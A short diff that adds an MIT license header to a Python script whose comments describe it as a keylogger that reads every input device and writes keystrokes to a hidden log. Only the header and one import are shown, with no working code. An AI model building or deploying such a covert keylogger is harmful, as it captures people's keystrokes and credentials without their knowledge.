@@ -1,4 +1,5 @@
 #!/usr/bin/python3
+# SPDX-License-Identifier: MIT
 # A keylogger: reads key events from every input device it can open and
 # writes the keys to a hidden log.
 import glob
